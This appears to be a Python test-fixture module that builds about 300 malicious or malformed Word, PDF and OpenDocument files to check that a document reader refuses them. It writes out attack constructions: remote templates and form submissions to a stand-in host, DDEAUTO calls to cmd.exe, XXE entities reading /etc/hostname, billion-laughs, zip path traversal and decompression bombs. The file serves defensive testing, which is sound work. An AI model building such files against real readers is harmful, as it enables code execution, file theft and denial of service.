"""Files that somebody made to hurt a reader: 300 of them, each always the same."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any

import docx
import pikepdf
from weasyprint import HTML

from processes.documents.reading import UnreadableCode

SEED = 20261126
TEXT = ("KẾ HOẠCH", "Phòng, chống thiên tai năm 2026", "I. NHIỆM VỤ", "1. Rà soát phương án", "Cơ quan chủ trì: Sở A.")
DAMAGED_OF_EACH = 60
MEGABYTE = 1024 * 1024

File = tuple[str, bytes, frozenset[UnreadableCode]]  # name, content, by which codes it may be refused ("" none: read)


@cache
def word() -> bytes:
    document = docx.Document()
    for line in TEXT:
        document.add_paragraph(line)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@cache
def pdf() -> bytes:
    made = HTML(string="".join(f"<p>{line}</p>" for line in TEXT)).write_pdf()
    assert isinstance(made, bytes)
    return made


def with_part(name: str, data: bytes, of: Callable[[], bytes] = word) -> bytes:
    """The package with this part put in, or in the place of the one of that name."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(of())) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.namelist():
            if entry != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, data)
    return buffer.getvalue()


def with_relation(kind: str, target: str) -> bytes:
    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = f'<Relationship Id="rId900" Type="{space}/{kind}" Target="{target}" TargetMode="External"/>'
    name = "word/_rels/document.xml.rels"
    with zipfile.ZipFile(io.BytesIO(word())) as package:
        text = package.read(name).decode()
    return with_part(name, text.replace("</Relationships>", f"{relation}</Relationships>").encode())


def with_body(xml: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(word())) as package:
        text = package.read("word/document.xml").decode()
    return with_part("word/document.xml", text.replace("<w:body>", f"<w:body>{xml}", 1).encode())


def field(instruction: str) -> bytes:
    return with_body(f'<w:p><w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r></w:p>')


def png(width: int, height: int) -> bytes:
    """The beginning of a picture that promises so many dots."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", zlib.compress(b"\0" * 9))


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pdf_with(change: Callable[[pikepdf.Pdf], Any]) -> bytes:
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        change(made)
        made.save(buffer, static_id=True)
    return buffer.getvalue()


def action(kind: str, **more: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)

    return change


def big_stream(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents = pikepdf.Stream(made, b"")
    made.pages[0].Contents.write(zlib.compress(b" " * 80 * MEGABYTE, 9), filter=pikepdf.Name.FlateDecode)


def packed_twice(made: pikepdf.Pdf) -> None:
    twice = zlib.compress(zlib.compress(b" " * 80 * MEGABYTE, 9), 9)
    names = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    made.pages[0].Contents = pikepdf.Stream(made, b"")
    made.pages[0].Contents.write(twice, filter=names)


def big_picture(made: pikepdf.Pdf) -> None:
    made.Root.Thumb = made.make_indirect(
        pikepdf.Stream(made, b"x", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=30_000, Height=30_000)
    )


def attachment(made: pikepdf.Pdf) -> None:
    made.attachments["hoa-don.exe"] = b"MZ"


def form_of_xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Array(), Fields=pikepdf.Array())


def encrypted() -> bytes:
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.save(buffer, encryption=pikepdf.Encryption(owner="chủ", user="khách"))
    return buffer.getvalue()


def deep_xml() -> bytes:
    return with_body("<w:p>" * 5_000 + "</w:p>" * 5_000)


def doctype(padding: int, entity: str, encoding: str = "utf-8") -> bytes:
    head = f'<?xml version="1.0" encoding="{encoding}"?><!--{"x" * padding}--><!DOCTYPE d [{entity}]><d>&x;</d>'
    return with_part("word/document.xml", head.encode(encoding))


def open_document(manifest: str = "", name: str = "x", data: bytes = b"", body: str = "") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        package.writestr("META-INF/manifest.xml", f"<m>{manifest}</m>")
        package.writestr("content.xml", f"<document-content>{body}</document-content>")
        package.writestr(name, data)
    return buffer.getvalue()


def old_word(*, storage: str = "", flags: int = 0, text: bytes = b"") -> bytes:
    entry = (storage + "\0").encode("utf-16-le").ljust(64, b"\0") if storage else b""
    block = (b"\xec\xa5" + b"\0" * 9 + bytes([flags])).ljust(512, b"\0")
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0")) + block + entry + text


MACROS, ACTIVE, OUTSIDE, BROKEN, LARGE, PICTURE, LOCKED = (
    frozenset({code})
    for code in (
        UnreadableCode.MACROS,
        UnreadableCode.ACTIVE_CONTENT,
        UnreadableCode.EXTERNAL_CONTENT,
        UnreadableCode.BROKEN_FILE,
        UnreadableCode.UNPACKS_TOO_LARGE,
        UnreadableCode.PICTURE_TOO_LARGE,
        UnreadableCode.ENCRYPTED,
    )
)
ANY = frozenset(UnreadableCode)
EVIL = "http://192.0.2.1/x"
FAR_TYPES = f'<!DOCTYPE d SYSTEM "{EVIL}"><d/>'.encode()
SECTION = '<text:section-source xlink:href="{}"/>'

MADE: list[tuple[str, str, Callable[[], bytes], frozenset[UnreadableCode]]] = [
    # what it is, name, content, codes
    ("macro", "a.docx", lambda: with_part("word/vbaProject.bin", b"x"), MACROS),
    ("macro, other case", "a.docx", lambda: with_part("word/VBAPROJECT.BIN", b"x"), MACROS),
    ("macro data", "a.docx", lambda: with_part("word/vbaData.xml", b"<x/>"), MACROS),
    ("macro file", "a.docm", word, MACROS),
    ("control", "a.docx", lambda: with_part("word/activeX/activeX1.bin", b"x"), ACTIVE),
    ("program inside", "a.docx", lambda: with_part("word/embeddings/a.exe", b"MZ"), ACTIVE),
    ("script inside", "a.docx", lambda: with_part("word/embeddings/a.vbs", b"x"), ACTIVE),
    ("page inside", "a.docx", lambda: with_part("word/afchunk.html", b"<script>"), ACTIVE),
    ("far template", "a.docx", lambda: with_relation("attachedTemplate", f"{EVIL}.dotm"), OUTSIDE),
    ("template on a share", "a.docx", lambda: with_relation("attachedTemplate", "\\\\192.0.2.1\\x.dotm"), OUTSIDE),
    ("far picture", "a.docx", lambda: with_relation("image", f"{EVIL}.png"), OUTSIDE),
    ("local picture", "a.docx", lambda: with_relation("image", "file:///etc/hostname"), OUTSIDE),
    ("far object", "a.docx", lambda: with_relation("oleObject", EVIL), OUTSIDE),
    ("far frame", "a.docx", lambda: with_relation("frame", EVIL), OUTSIDE),
    ("far part", "a.docx", lambda: with_relation("subDocument", EVIL), OUTSIDE),
    ("call of a program", "a.docx", lambda: field("DDEAUTO c:\\\\windows\\\\cmd.exe"), OUTSIDE),
    ("text from a file", "a.docx", lambda: field('INCLUDETEXT "/etc/hostname"'), OUTSIDE),
    ("picture from afar", "a.docx", lambda: field(f"INCLUDEPICTURE {EVIL}.png"), OUTSIDE),
    ("cells from a share", "a.docx", lambda: field("LINK Excel.Sheet \\\\\\\\192.0.2.1\\\\a.xlsx"), OUTSIDE),
    ("entity", "a.docx", lambda: doctype(0, '<!ENTITY x SYSTEM "file:///etc/hostname">'), BROKEN),
    ("entity, late", "a.docx", lambda: doctype(9_000, '<!ENTITY x SYSTEM "file:///etc/hostname">'), BROKEN),
    ("entity in UTF-16", "a.docx", lambda: doctype(0, '<!ENTITY x "y">', "utf-16"), BROKEN),
    ("laughs", "a.docx", lambda: doctype(0, '<!ENTITY l "ha"><!ENTITY x "' + "&l;" * 999 + '">'), BROKEN),
    ("far list of types", "a.docx", lambda: with_part("word/styles.xml", FAR_TYPES), BROKEN),
    ("nested without end", "a.docx", deep_xml, BROKEN),
    ("bomb of a picture", "a.docx", lambda: with_part("word/media/a.png", b"\0" * 251 * MEGABYTE), LARGE),
    ("picture of 200 MB", "a.docx", lambda: with_part("word/media/a.bmp", b"\0" * 200 * MEGABYTE), LARGE),
    ("bomb of text", "a.docx", lambda: with_part("word/document.xml", b" " * 61 * MEGABYTE), LARGE),
    ("3,001 parts", "a.docx", lambda: many_parts(3_001), LARGE),
    ("picture of 900 million dots", "a.docx", lambda: with_part("word/media/a.png", png(30_000, 30_000)), PICTURE),
    ("picture of 65 million dots", "a.docx", lambda: with_part("word/media/a.png", png(6_500, 10_000)), PICTURE),
    ("way out of the folder", "a.docx", lambda: with_part("../../etc/cron.d/x", b"x"), BROKEN),
    ("way from the root", "a.docx", lambda: with_part("/etc/passwd", b"x"), BROKEN),
    ("locked by Word", "a.docx", lambda: old_word(), LOCKED),
    ("no package", "a.docx", lambda: b"PK\x03\x04" + b"x" * 99, BROKEN),
    ("a picture by name only", "a.docx", lambda: png(10, 10), BROKEN),
    ("a page of another kind", "a.pdf", word, BROKEN),
    ("a program", "a.exe", lambda: b"MZ" * 99, frozenset({UnreadableCode.UNKNOWN_KIND})),
    ("a page of the web", "a.html", lambda: b"<script>x</script>", frozenset({UnreadableCode.UNKNOWN_KIND})),
    ("a package by another name", "a.zip", word, frozenset({UnreadableCode.UNKNOWN_KIND})),
    ("name with a way", "../../a.txt\x00.docx", lambda: b"x", BROKEN),
    ("bytes as text", "a.txt", lambda: bytes(range(256)) * 9, frozenset({UnreadableCode.NOT_TEXT})),
    ("script on opening", "a.pdf", lambda: pdf_with(action("JavaScript", JS="app.alert(1)")), ACTIVE),
    ("program on opening", "a.pdf", lambda: pdf_with(action("Launch", F="cmd.exe")), ACTIVE),
    ("form that sends", "a.pdf", lambda: pdf_with(action("SubmitForm", F=EVIL)), ACTIVE),
    ("jump to a file", "a.pdf", lambda: pdf_with(action("GoToR", F="\\\\192.0.2.1\\x.pdf")), ACTIVE),
    ("file inside", "a.pdf", lambda: pdf_with(attachment), ACTIVE),
    ("form of forms", "a.pdf", lambda: pdf_with(form_of_xfa), ACTIVE),
    ("bomb of a page", "a.pdf", lambda: pdf_with(big_stream), LARGE),
    ("packed twice", "a.pdf", lambda: pdf_with(packed_twice), LARGE),
    ("picture of a page", "a.pdf", lambda: pdf_with(big_picture), PICTURE),
    ("locked page", "a.pdf", encrypted, LOCKED),
    ("head of a page only", "a.pdf", lambda: b"%PDF-1.7\n" + b"\0" * 999, BROKEN),
    ("basic", "a.odt", lambda: open_document(name="Basic/Standard/Module1.xml", data=b"<x/>"), MACROS),
    ("scripts", "a.odt", lambda: open_document(name="Scripts/python/x.py", data=b"x"), MACROS),
    ("locked", "a.odt", lambda: open_document(manifest="<encryption-data/>"), LOCKED),
    ("far list of types", "a.odt", lambda: open_document(name="styles.xml", data=FAR_TYPES), BROKEN),
    ("far picture", "a.odt", lambda: open_document(body=f'<draw:image xlink:href="{EVIL}.png"/>'), OUTSIDE),
    ("section of a file", "a.odt", lambda: open_document(body=SECTION.format("file:///etc/hostname")), OUTSIDE),
    ("section beside it", "a.odt", lambda: open_document(body=SECTION.format("../b.odt")), OUTSIDE),
    ("no package", "a.odt", lambda: b"text" * 9, BROKEN),
    ("macro", "a.doc", lambda: old_word(storage="_VBA_PROJECT"), MACROS),
    ("macro", "b.doc", lambda: old_word(storage="Macros"), MACROS),
    ("locked", "a.doc", lambda: old_word(flags=1), LOCKED),
    ("call of a program", "a.doc", lambda: old_word(text=b"\x13DDEAUTO c:\\cmd.exe\x14"), OUTSIDE),
    ("text from a file", "a.doc", lambda: old_word(text="\x13INCLUDETEXT /etc/x\x14".encode("utf-16-le")), OUTSIDE),
    ("text by name only", "a.doc", lambda: b"text" * 9, BROKEN),
]  # fmt: skip


def many_parts(count: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for number in range(count):
            package.writestr(f"word/{number}.bin", b"")
        package.writestr("word/document.xml", b"<x/>")
    return buffer.getvalue()


def made_files() -> Iterator[File]:
    for _what, name, content, codes in MADE:
        yield name, content(), codes


def damaged_files() -> Iterator[File]:
    """Cut, overwritten, doubled and shuffled files of each kind: read or refused, but never more than that."""
    dice = random.Random(SEED)
    text = "\n".join(TEXT).encode()
    for name, content in (("a.docx", word()), ("a.pdf", pdf()), ("a.txt", text), ("a.md", text)):
        for _number in range(DAMAGED_OF_EACH):
            yield name, _damaged(content, dice), ANY


def _damaged(content: bytes, dice: random.Random) -> bytes:
    spoiled = bytearray(content)
    for _wound in range(dice.randint(1, 12)):
        at, length = dice.randrange(len(spoiled)), dice.randint(1, 400)
        match dice.randrange(4):
            case 0:
                del spoiled[at:]
                spoiled += b"\0"
            case 1:
                spoiled[at : at + length] = dice.randbytes(length)
            case 2:
                spoiled[at:at] = spoiled[at : at + length] * dice.randint(1, 40)
            case _:
                spoiled[at] ^= 1 << dice.randrange(8)
    return bytes(spoiled)
